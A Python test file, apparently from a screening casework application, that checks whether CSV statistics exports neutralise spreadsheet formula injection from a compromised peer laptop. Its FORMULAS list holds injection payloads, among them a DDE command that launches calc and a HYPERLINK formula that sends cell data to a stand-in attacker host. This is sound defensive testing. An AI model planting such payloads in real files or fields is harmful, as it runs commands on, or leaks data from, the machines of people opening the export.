"""F4: a checked colleague's laptop, in other hands, sends cases of formulas, and one of an unknown edition.

The summary listed them as they came, and a spreadsheet ran them; the one case stopped every table of the record. Now a
value that no list knows is none, no cell can begin a formula, and a case that cannot be read here is counted as that.
"""

from __future__ import annotations

import csv
import re
import unicodedata
from pathlib import Path

import pytest

from screening.casework.content.edition import Content
from screening.casework.record import statistics_release
from screening.domain.answers import Answer, How
from screening.domain.events.catalogue import AnswerGiven, CaseOpened, ConsentDecided, LanguageChosen
from screening.domain.events.referral import SheetNoted
from screening.store import Vault, take_in
from tests.store.some_bundles import bundle, introduce, laptop

FORMULAS = [
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\uff1d1+1", "%x", "|calc",
    '=HYPERLINK("http://evil.example/"&A1)', "en\n=1+1", 'en,"=1+1',
]  # fmt: skip

SIGNS = ("locked", "papers-kept", "little-pay", "debt-grows", "violence")


@pytest.fixture
def attacked(tmp_path: Path) -> Vault:
    """A record that took in 24 cases for each formula, enough to be listed, half of them of possible victims, and one
    that it cannot read.
    """
    receiver, sender = laptop("Aina"), laptop("=1+1|x")
    introduce(receiver, sender)
    for formula in FORMULAS:
        for number in range(24):
            signs = SIGNS if number < 12 else SIGNS[:1]
            case = sender.new_case()
            sender.append_many(
                case,
                [
                    CaseOpened("2026-1", formula, "adult"),
                    LanguageChosen(formula),
                    ConsentDecided("count", "yes", "v", formula),
                    SheetNoted("service", "sector", formula),
                    SheetNoted("service", "sex", formula),
                    *(AnswerGiven(each, Answer.YES, How.TOLD) for each in signs),
                ],
            )
    strange = sender.new_case()
    sender.append_many(strange, [CaseOpened("2099-9", "office", "adult"), ConsentDecided("count", "yes", "v", "en")])
    take_in(receiver, bundle(sender, receiver, tmp_path))
    return receiver


@pytest.mark.one_in(3)
@pytest.mark.parametrize("kind", ["summary", "htcds", "ctdc"])
def test_no_table_holds_a_formula_and_none_is_stopped(
    attacked: Vault, content: Content, tmp_path: Path, kind: str
) -> None:
    out = statistics_release.take_out(attacked, kind, tmp_path / f"{kind}.csv", content)
    text = out.read_text("utf-8")
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
    assert len(cells) > 4
    for cell in cells:
        assert not re.match(r"[\s\ufeff\x00]*[=+\-@|%]", unicodedata.normalize("NFKC", cell)), cell
    for part in ("calc", "HYPERLINK", "SUM", "1+1"):
        assert part not in text
    if kind == "summary":
        assert "not-readable-here" in text
